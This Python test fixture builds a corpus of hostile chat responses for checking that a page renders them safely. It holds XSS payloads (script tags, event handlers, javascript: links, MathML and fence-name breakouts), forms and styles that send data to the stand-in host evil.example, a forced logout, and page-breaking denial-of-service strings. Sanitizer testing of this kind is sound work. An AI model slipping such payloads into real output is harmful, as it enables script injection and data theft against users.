"""Responses that try to run, to reach out, to hide or to break the page they are read on."""

NESTED = "\n".join("  " * depth + "- x" for depth in range(1000))

# Name → text. Every one holds the word "hostile", which a reader must be able to find.
CORPUS: dict[str, str] = {
    "script": "hostile <script>window.broken = 1; alert(1)</script>",
    "script in a fence": "hostile\n\n```html\n</code></pre><script>window.broken = 1</script>\n```",
    "image that fails": 'hostile <img src="x" onerror="window.broken = 1">',
    "svg": 'hostile <svg onload="window.broken = 1"><animate onbegin="window.broken = 1" /></svg>',
    "svg link": 'hostile <svg><a xlink:href="javascript:window.broken=1"><text>a</text></a></svg>',
    "mathml": (
        "hostile <math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=window.broken=1&gt;">'
        "</mglyph></table></mtext></math>"
    ),
    "formula": (
        r"hostile $$\text{<img src=x onerror=window.broken=1>}$$"
        r" $\href{javascript:window.broken=1}{x}$"
        r" $\style{position:fixed;inset:0}{x}$ $\color{red;background:url(//evil.example/1)}{y}$"
    ),
    "wide formula": r"hostile $$" + "x+" * 600 + r"x$$ $\hspace{9000em}\rule{9000em}{9000em}$",
    "javascript links": (
        "hostile [a](javascript:window.broken=1) [b](JaVaScRiPt&#58;window.broken=1)"
        " [c](java\tscript:window.broken=1) <javascript:window.broken=1> [d](vbscript:x)"
        "\n\n[e]: javascript:window.broken=1\n\n[e]"
    ),
    "data links": (
        "hostile [a](data:text/html,<script>window.broken=1</script>)"
        " ![b](data:image/svg+xml;base64,PHN2Zy8+) [c](blob:x) [d](file:///etc/passwd)"
    ),
    "images elsewhere": (
        "hostile ![a](https://evil.example/1.png) ![b](//evil.example/2.png)"
        " ![c](http://127.0.0.1:1/3.png) <img src=https://evil.example/4.png>"
        ' <link rel=stylesheet href=//evil.example/5.css> <iframe src="//evil.example/6"></iframe>'
        " <video poster=//evil.example/7></video> <object data=//evil.example/8></object>"
    ),
    "links here": "hostile [a](/accounts/logout/) [b](//evil.example) [c](#main) [d](?next=//x.y)",
    "style": (
        "hostile <style>*{display:none!important}@import '//evil.example/9.css'</style>"
        '<div style="position:fixed;inset:0;background:url(//evil.example/10)">x</div>'
        " </style></textarea></title></template>"
    ),
    "css escapes": (
        r"hostile `\3c script\3e` <p style='\62 ackground:\75 rl(//evil.example/11)'>x</p>"
        r" } * { } /* \*/"
    ),
    "form": (
        'hostile </article></main></form><form action="//evil.example/12"><input name="ranking">'
        '<button formaction="//evil.example/13" autofocus>Submit</button></form>'
    ),
    "clobbering": (
        'hostile <a id="answer"></a><form id="desk"><input id="ranking" name="submit_key"></form>'
        '<p id="live"></p><template id="words"></template><dialog open>x</dialog>'
    ),
    "attributes": (
        "hostile \" onmouseover=\"window.broken=1\" x=' autofocus onfocus='window.broken=1' `"
    ),
    "meta": (
        'hostile <meta http-equiv="refresh" content="0;url=//evil.example/14">'
        '<base href="//evil.example">'
    ),
    "htmx": 'hostile <div hx-get="/accounts/logout/" hx-trigger="load" data-does="submit">x</div>',
    "template language": "hostile {{ 7|add:7 }} {% load x %} ${7*7} <%= 7 %> #{7}",
    "entities": (
        "hostile &lt;script&gt;window.broken=1&lt;/script&gt;"
        " &#x3c;img src=x onerror=window.broken=1&#x3e;"
    ),
    "one line of a megabyte": "hostile" + "x" * 1_000_000,
    "words of a megabyte": "hostile " * 125_000,
    "lines of a megabyte": "hostile\n" + "\n" * 500_000,
    "zalgo": "hostile " + ("h" + "\u0300\u0316\u0321\u0489" * 60) * 60,
    "right to left override": "hostile \u202e txt.exe \u202d\u2066\u2067 never closed \u202b",
    "odd spaces": "hostile \u200b\u200e\u2028\u2029\ufeff\u00ad\u180e" + "\u3000" * 400,
    "emoji": "hostile " + "👩‍👩‍👧‍👦" * 800 + "🏳️‍🌈" + "\U000e0041" * 300,
    "unbreakable": "hostile " + "ا" * 3000 + " " + "W" * 3000 + "\u2060W" * 800,
    "lists a thousand deep": "hostile\n\n" + NESTED,
    "list items in a line": "- " * 1000 + "hostile",
    "quotes": ">" * 900 + " hostile",
    "brackets": "hostile " + "[" * 3000 + "](" * 500,
    "stars": "hostile " + "*a _b " * 600,
    "wide table": "hostile\n\n"
    + "|a" * 400
    + "|\n"
    + "|-" * 400
    + "|\n"
    + ("|" + "W" * 90) * 400
    + "|",
    "long table": "hostile\n\n|a|\n|-|\n" + "|b|\n" * 900,
    "wide code": "hostile\n\n```python\n" + "x" * 9000 + "\n```",
    "fence with a long name": "hostile\n\n```" + "x" * 5000 + "\ny\n```",
    "fence with a hostile name": 'hostile\n\n```"><img/src=x/onerror=window.broken=1>\ny\n```',
    "headings": "\n\n".join(f"{'#' * (number % 6 + 1)} hostile" for number in range(200)),
    "nothing to see": "hostile\n\n[a]: https://evil.example 'hidden'\n\n<!-- hidden -->",
}
